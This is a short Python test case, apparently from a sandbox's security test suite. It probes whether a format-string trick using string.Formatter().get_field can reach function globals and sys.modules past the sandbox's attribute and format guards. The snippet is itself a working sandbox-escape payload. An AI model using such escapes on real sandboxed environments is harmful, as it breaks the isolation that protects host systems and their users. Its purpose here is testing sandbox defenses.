# technique: string.Formatter().get_field('0.format', (tpl,), {}) walks to tpl.format and hands the bound method out (format is no blocked attribute); called by name it formats a run-time __init__.__globals__[sys].modules template the format guard never sees
# configs: default, common
# With nothing allowed `import string` is refused.
import string
u = '_' * 2
tpl = '{0.' + u + 'init' + u + '.' + u + 'globals' + u + '[sys].modules}'
bound, _ = string.Formatter().get_field('0.format', (tpl,), {})
text = bound(exit)
if "<module 'sys'" in text:
    return [{'json': {'escaped': text[:200]}}]
return [{'json': {'result': text[:200]}}]
